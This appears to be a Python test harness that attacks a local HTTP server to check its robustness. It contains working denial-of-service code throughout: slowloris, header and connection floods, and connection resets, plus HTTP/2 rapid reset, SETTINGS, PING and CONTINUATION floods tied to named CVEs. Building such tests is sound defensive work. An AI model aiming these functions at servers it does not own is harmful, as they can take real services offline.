# SPDX-License-Identifier: Apache-2.0
"""Attacks on an HTTP server of this machine, byte by byte: no library stands between the attack and
the socket. Each returns what the server did; test_serve_faults.py says what it should have done.

What a server did with a connection is told as an outcome such as "400 closed" or "200 200 open":
the status of each answer, with `cut` behind one that ended before its length or last chunk, and
whether the connection was closed within the patience given."""
import os
import re
import select
import socket
import struct
import time

PATIENCE_S = 20  # for what must happen; never waited for when all is well
QUIET_S = 0.4    # how long an open connection has to stay silent to count as open


def ready(sockets, seconds, for_=select.POLLIN):
    """Those that can be read (or written); without select(), which ends at descriptor 1023."""
    poll = select.poll()
    by_fd = {s.fileno(): s for s in sockets}
    for fd in by_fd:
        poll.register(fd, for_)
    return [by_fd[fd] for fd, _ in poll.poll(max(0, seconds * 1000))]


class Client:
    """A connection that counts what comes back."""

    def __init__(self, address):
        self.socket = socket.create_connection(address, timeout=PATIENCE_S)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.data = b""
        self.is_closed = False

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        """False once the server has closed."""
        try:
            self.socket.sendall(data)
            return True
        except socket.timeout:
            raise
        except OSError:
            return False

    def read_more(self, seconds):
        """Waits that long for bytes; False for none, because of silence or of the end."""
        if self.is_closed or not ready([self.socket], seconds):
            return False
        try:
            more = self.socket.recv(1 << 18)
        except ConnectionResetError:
            more = b""
        self.data += more
        self.is_closed = not more
        return bool(more)

    def read_until(self, is_enough, seconds=PATIENCE_S):
        end = time.monotonic() + seconds
        while not is_enough(self) and not self.is_closed and time.monotonic() < end:
            self.read_more(end - time.monotonic())
        return is_enough(self)

    def reset(self):
        """Ends the connection by RST instead of FIN."""
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()


# ---- Answers ---------------------------------------------------------------------------------


class Answer:
    def __init__(self, status, headers, body, is_complete):
        self.status, self.headers, self.body, self.is_complete = status, headers, body, is_complete

    def __str__(self):
        return f"{self.status}" + ("" if self.is_complete else " cut")


def chunks_read(data):
    """(body, bytes used, whether the last chunk was there)"""
    body, at = b"", 0
    while True:
        line = re.match(rb"([0-9a-fA-F]+)[^\r\n]*\r\n", data[at:])
        if not line:
            return body, len(data), False
        size = int(line[1], 16)
        start = at + line.end()
        if size == 0:
            end = data.find(b"\r\n", start)
            while end > start:  # trailer fields
                start, end = end + 2, data.find(b"\r\n", end + 2)
            return body, len(data) if end < 0 else end + 2, end >= 0
        body += data[start:start + size]
        if data[start + size:start + size + 2] != b"\r\n":
            return body, len(data), False
        at = start + size + 2


def answers_read(data, is_closed=True):
    """The answers in these bytes; the last one may be incomplete."""
    found = []
    while True:
        head, separator, rest = data.partition(b"\r\n\r\n")
        first = re.match(rb"HTTP/1\.[01] (\d{3}) ", head)
        if not separator or not first:
            return found
        lines = [line.partition(b":") for line in head.split(b"\r\n")[1:]]
        headers = {k.strip().lower().decode("latin-1"): v.strip().decode("latin-1")
                   for k, _, v in lines}
        status = int(first[1])
        if status < 200:
            data = rest
            continue
        if "chunked" in headers.get("transfer-encoding", ""):
            body, used, is_complete = chunks_read(rest)
        elif "content-length" in headers:
            used = int(headers["content-length"])
            body, is_complete = rest[:used], len(rest) >= used
        else:
            body, used, is_complete = rest, len(rest), is_closed
        found.append(Answer(status, headers, body, is_complete))
        data = rest[used:]


def outcome(client):
    words = [str(a) for a in answers_read(client.data, client.is_closed)]
    if client.data and not words:
        words = ["garbage"]
    return " ".join(words + ["closed" if client.is_closed else "open"])


def ask(address, *pieces, answers=1, ends=False, seconds=PATIENCE_S):
    """Sends the pieces, waits for the answers, then for an end of the connection or silence.
    `ends`: the client closes its side after the last piece."""
    with Client(address) as c:
        for piece in pieces:
            if not c.send(piece):
                break
        if ends:
            c.socket.shutdown(socket.SHUT_WR)

        def is_enough(client):
            return len([a for a in answers_read(client.data, False) if a.is_complete]) >= answers

        c.read_until(is_enough, seconds)
        while c.read_more(QUIET_S):
            pass
        return outcome(c), answers_read(c.data, c.is_closed)


def get(path, *lines, host="localhost"):
    return "\r\n".join([f"GET {path} HTTP/1.1", f"Host: {host}", *lines, "", ""]).encode()


def post(path, *lines, body=b""):
    return "\r\n".join([f"POST {path} HTTP/1.1", "Host: localhost", *lines, "", ""]).encode() + body


# ---- Slow, endless and many ------------------------------------------------------------------


def slow_loris(address, n, seconds):
    """`n` connections, each a byte of a head every second. How many the server closed, and after
    how many seconds the last of them."""
    clients = [Client(address) for _ in range(n)]
    head = get("/hello", "X-Slow: " + "x" * 1000)
    start = time.monotonic()
    last = 0
    for i in range(int(seconds)):
        for c in clients:
            if not c.is_closed:
                c.send(head[i:i + 1])
        until = start + i + 1
        while (rest := until - time.monotonic()) > 0:
            open_ = [c for c in clients if not c.is_closed]
            if not open_:
                break
            heard = ready([c.socket for c in open_], rest)
            for c in (c for c in open_ if c.socket in heard):
                c.read_more(0)
                last = time.monotonic() - start if c.is_closed else last
        if all(c.is_closed for c in clients):
            break
    outcomes = {outcome(c) for c in clients}
    for c in clients:
        c.socket.close()
    return sum(c.is_closed for c in clients), last, outcomes


def endless_head(address, piece, limit):
    """The piece again and again, as part of a head, until the server answers or closes. How many
    bytes of `limit` it took, and the outcome."""
    with Client(address) as c:
        c.send(b"GET /hello HTTP/1.1\r\nHost: localhost\r\n")
        sent = 0
        # Little fits on the way, so what is sent is what the server has taken, however busy it is.
        c.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        c.socket.settimeout(2)
        while sent < limit and not ready([c.socket], 0):
            try:
                if not c.send(piece):
                    break
            except socket.timeout:
                break
            sent += len(piece)
        while c.read_more(QUIET_S):
            pass
        return sent, outcome(c)


def many_connections(address, n):
    """Opens `n` connections that ask once, stay, and ask once more; a few at a time, since the
    connections are many and not the requests. How many were answered well both times."""
    clients, good, at_a_time = [], 0, 50
    request = get("/hello")

    def answered(some, times):
        for c in some:
            c.read_until(lambda c: len(answers_read(c.data, False)) == times)
        return [[a.status for a in answers_read(c.data, False)] for c in some].count([200] * times)

    for _ in range(0, n, at_a_time):
        some = [Client(address) for _ in range(at_a_time)]
        clients += some
        for c in some:
            c.send(request)
        answered(some, 1)
    for i in range(0, n, at_a_time):
        some = clients[i:i + at_a_time]
        for c in some:
            c.send(request)
        good += answered(some, 2)
    for c in clients:
        c.socket.close()
    return good


def reset_in_body(address, path, times):
    """Requests that end by a reset in the middle of their body."""
    for i in range(times):
        c = Client(address)
        c.send(post(path, "Content-Length: 1000000", body=b"x" * (1000 * (i % 50))))
        c.reset()


def reset_in_answer(address, path, times):
    """Reads the beginning of a long answer, then resets."""
    for _ in range(times):
        c = Client(address)
        c.send(get(path))
        c.read_more(PATIENCE_S)
        c.reset()


def unread_answer(address, path, seconds):
    """Asks for a long answer and does not read it. Whether the server gave the connection up."""
    with Client(address) as c:
        c.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        c.send(get(path))
        return bool(ready([c.socket], seconds, select.POLLRDHUP))


# ---- HTTP/2, by prior knowledge --------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PROOF = b"are you?"  # a ping that is no flood
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          6: "FRAME_SIZE_ERROR", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(type_, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", type_, flags, stream) + payload


def hpack_get(path):
    """A GET without the dynamic table: indexed fields, and literals without indexing."""
    return (b"\x82\x86" + b"\x04" + bytes([len(path)]) + path.encode()
            + b"\x01\x09localhost")


class Http2(Client):
    """A connection that keeps the frames it gets; of answers to floods only how many."""

    def __init__(self, address):
        super().__init__(address)
        self.frames = []  # (type, flags, stream, payload)
        self.acks = 0
        self.unsent = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.read_until(lambda c: any(f[0] == SETTINGS for f in c.frames))
        self.send(frame(SETTINGS, ACK, 0))

    def read_more(self, seconds):
        got = super().read_more(seconds)
        at = 0
        while len(self.data) - at >= 9:
            length = int.from_bytes(self.data[at:at + 3], "big")
            if len(self.data) - at < 9 + length:
                break
            type_, flags, stream = struct.unpack_from(">BBI", self.data, at + 3)
            payload = self.data[at + 9:at + 9 + length]
            if type_ in (SETTINGS, PING) and flags & ACK and payload != PROOF:
                self.acks += 1
            else:
                self.frames.append((type_, flags, stream, payload))
            at += 9 + length
        self.data = self.data[at:]
        return got

    def push(self, seconds):
        """Sends of what is unsent as much as the server takes; False when it takes nothing."""
        if not self.unsent:
            return True
        if not ready([self.socket], seconds, select.POLLOUT):
            return False
        try:
            self.unsent = self.unsent[self.socket.send(self.unsent, socket.MSG_DONTWAIT):]
        except BlockingIOError:
            pass
        except OSError:
            self.is_closed = not self.read_more(0)
            return False
        return True

    def flood(self, data, times):
        """Sends without reading; how often, until the server has taken nothing for a second."""
        for i in range(times):
            self.unsent += data
            while self.unsent:
                if not self.push(1):
                    return i
        return times

    def goaway(self):
        found = [f for f in self.frames if f[0] == GOAWAY]
        return int.from_bytes(found[-1][3][4:8], "big") if found else None

    def end(self, seconds=PATIENCE_S):
        """What the server made of the connection: "GOAWAY <error>", "closed", "alive" when it
        answers a ping after everything before it, or "silent"."""
        self.unsent += frame(PING, 0, 0, PROOF)
        end = time.monotonic() + seconds
        while self.goaway() is None and (PING, ACK, 0, PROOF) not in self.frames[-3:]:
            if self.is_closed or time.monotonic() > end:
                return "closed" if self.is_closed else "silent"
            if not self.unsent or not self.push(0):
                self.read_more(0.1)
            while self.read_more(0):
                pass
        error = self.goaway()
        return "alive" if error is None else "GOAWAY " + ERRORS.get(error, str(error))

    def status_of(self, stream):
        """The :status of a response, when it is one of the static table's; None without one."""
        names = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}
        for type_, _, s, payload in self.frames:
            if type_ == HEADERS and s == stream:
                while payload and payload[0] & 0xe0 == 0x20:  # size updates of the dynamic table
                    payload = payload[1:]
                return names.get(payload[0], 0) if payload else 0
        return None


def http2_get(address, path):
    with Http2(address) as c:
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack_get(path)))
        c.read_until(lambda c: any(f[2] == 1 and f[0] == DATA and f[1] & END_STREAM
                                   for f in c.frames))
        body = b"".join(f[3] for f in c.frames if f[0] == DATA and f[2] == 1)
        return c.status_of(1), body


def rapid_reset(address, path, times):
    """CVE-2023-44487: opens streams and resets each at once. How many, and what came of it."""
    request, cancel = hpack_get(path), struct.pack(">I", 8)
    with Http2(address) as c:
        sent = 0
        while sent < times and c.goaway() is None and not c.is_closed:
            streams = range(1 + 2 * sent, 1 + 2 * (sent + 50), 2)
            sent += 50 * c.flood(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, request)
                                          + frame(RST_STREAM, 0, i, cancel) for i in streams), 1)
            while c.read_more(0):
                pass
        return sent, c.end()


def settings_flood(address, times):
    """CVE-2019-9515: each SETTINGS asks for an answer that is not read."""
    with Http2(address) as c:
        return 100 * c.flood(frame(SETTINGS, 0, 0) * 100, times // 100), c.end()


def ping_flood(address, times):
    """CVE-2019-9512: as above, with PING."""
    with Http2(address) as c:
        return 100 * c.flood(frame(PING, 0, 0, b"12345678") * 100, times // 100), c.end()


def continuation_flood(address, times):
    """CVE-2024-27316: a header block without an end."""
    field = b"\x00\x06x-much" + b"\x7f\x81\x07" + b"y" * 1024  # the length 1024 in three bytes
    with Http2(address) as c:
        c.send(frame(HEADERS, END_STREAM, 1, hpack_get("/hello")))
        return c.flood(frame(CONTINUATION, 0, 1, field * 8), times), c.end()


# ---- The server's side -----------------------------------------------------------------------


def descriptors(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))
